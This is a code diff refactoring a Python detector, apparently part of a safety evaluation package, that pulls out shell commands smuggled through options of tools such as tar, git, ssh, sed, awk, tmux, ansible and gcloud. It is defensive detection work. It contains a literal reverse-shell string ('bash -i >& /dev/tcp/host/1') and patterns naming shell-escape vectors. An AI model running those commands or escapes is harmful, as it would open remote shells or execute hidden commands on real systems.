@@ -1,7 +1,7 @@
 """Commands that are carried in an option of a program that is no shell."""
 
 import re
-from collections.abc import Iterator, Sequence
+from collections.abc import Callable, Iterator, Mapping, Sequence
 
 from oilstone_eval.danger.names import names
 
@@ -11,56 +11,64 @@ _OPTIONS = re.compile(
     r"|--pager|--unzip-command)[= ](.*)|alias\.\w+=!(.*)",
     re.DOTALL,
 )
-_CARRIERS = names("tar git ssh scp sftp rsync zip man less")
-_FLEETS = names("pssh parallel-ssh pdsh dsh clush")
 _KEYS = names("Enter C-m C-j ENTER KPEnter")
 
 
 def carried(name: str, args: Sequence[str], stdin: str | None) -> Iterator[str]:
     """Yield the shell text that options of this command make it run."""
-    if name in _CARRIERS:
-        for word in args:
-            if found := _OPTIONS.match(word):
-                yield found[1] or found[2] or ""
-    elif name in _FLEETS or name == "salt":
-        yield _last(args)
-    elif name in ("ansible", "tmux", "screen"):
-        yield from _typed(name, args)
-    elif name == "sed":
-        yield from (found[1] or found[3] for word in args if (found := _SED.match(word)))
-    elif name in ("awk", "gawk", "mawk", "nawk"):
-        yield from _awk(" ".join(args))
-    elif name in ("ed", "ex", "vi", "vim") and stdin:
+    if name in ("ed", "ex", "vi", "vim") and stdin:
         yield from re.findall(r"^\s*:?!(.+)", stdin, re.MULTILINE)
-    elif name in ("mapfile", "readarray") and "-C" in args[:-1]:
-        yield args[list(args).index("-C") + 1]
+    elif name in _READERS:
+        yield from _READERS[name](args)
+
+
+def _options(args: Sequence[str]) -> Iterator[str]:
+    for word in args:
+        if found := _OPTIONS.match(word):
+            yield found[1] or found[2] or ""
+        elif word[:1] == "!" and "config" in args:
+            yield word[1:]
+
+
+def _last(args: Sequence[str]) -> Iterator[str]:
+    yield from args[-1:]
+
+
+def _callback(args: Sequence[str]) -> Iterator[str]:
+    yield from (args[at + 1] for at, word in enumerate(args[:-1]) if word == "-C")
+
+
+def _remote(args: Sequence[str]) -> Iterator[str]:
+    at = [at for at, word in enumerate(args[:-1]) if word in ("-c", "--command")]
+    yield from (args[each + 1] for each in at)
+    yield from (word[10:] for word in args if word.startswith("--command="))
+
+
+def _sed(args: Sequence[str]) -> Iterator[str]:
+    yield from (found[1] or found[3] for word in args if (found := _SED.match(word)))
 
 
 _SED = re.compile(r"^[\d,$]*e\s+(.+)|^s(\W).*\2(.*)\2\w*e\w*$", re.DOTALL)
 
 
-def _last(args: Sequence[str]) -> str:
-    return args[-1] if args else ""
-
-
-def _typed(name: str, args: Sequence[str]) -> Iterator[str]:
-    """Yield what is sent to other machines by ansible, or typed into a terminal."""
+def _ansible(args: Sequence[str]) -> Iterator[str]:
     words = list(args)
-    if name == "ansible":
-        task = next((words[i + 1] for i, w in enumerate(words[:-1]) if w in ("-a", "--args")), "")
-        absent = re.search(r"\bstate=absent\b", task)
-        path = re.search(r"\b(?:path|dest|name)=(\S+)", task)
-        yield f"rm -rf {path[1]}" if absent and path else task
-    for verb in ("send-keys", "send", "stuff"):
-        if verb in words and name != "ansible":
-            typed = words[words.index(verb) + 1 :]
-            if typed[:1] == ["-t"]:
-                typed = typed[2:]
-            yield " ".join(word for word in typed if word not in _KEYS).replace("\\n", "\n")
+    task = next((words[i + 1] for i, w in enumerate(words[:-1]) if w in ("-a", "--args")), "")
+    path = re.search(r"\b(?:path|dest|name)=(\S+)", task)
+    yield f"rm -rf {path[1]}" if path and re.search(r"\bstate=absent\b", task) else task
 
 
-def _awk(program: str) -> Iterator[str]:
+def _typed(args: Sequence[str]) -> Iterator[str]:
+    """Yield what is typed into a terminal."""
+    for verb in {"send-keys", "send", "stuff"} & set(args):
+        typed = list(args)[list(args).index(verb) + 1 :]
+        typed = typed[2:] if typed[:1] == ["-t"] else typed
+        yield " ".join(word for word in typed if word not in _KEYS).replace("\\n", "\n")
+
+
+def _awk(args: Sequence[str]) -> Iterator[str]:
     """Yield the texts that an awk program hands to a shell."""
+    program = " ".join(args)
     text = r'"((?:[^"\\]|\\.)*)"'
     yield from re.findall(rf"(?:system\s*\(|[^|]\|&?)\s*{text}", program)
     yield from re.findall(rf"{text}\s*\|&?\s*getline", program)
@@ -68,3 +76,14 @@ def _awk(program: str) -> Iterator[str]:
         yield from re.findall(rf"\b{''.join(name)}\s*=\s*{text}", program)
     if "/inet/" in program and re.search(r"\w\s*\|&?\s*getline.*\|&?\s*getline", program):
         yield "bash -i >& /dev/tcp/host/1"
+
+
+_READERS: Mapping[str, Callable[[Sequence[str]], Iterator[str]]] = {
+    **dict.fromkeys(names("tar git ssh scp sftp rsync zip man less"), _options),
+    **dict.fromkeys(names("pssh parallel-ssh pdsh dsh clush salt"), _last),
+    **dict.fromkeys(names("awk gawk mawk nawk"), _awk),
+    **dict.fromkeys(names("tmux screen"), _typed),
+    **dict.fromkeys(names("mapfile readarray"), _callback),
+    **dict.fromkeys(names("vagrant gcloud"), _remote),
+    "ansible": _ansible, "sed": _sed,
+}  # fmt: skip
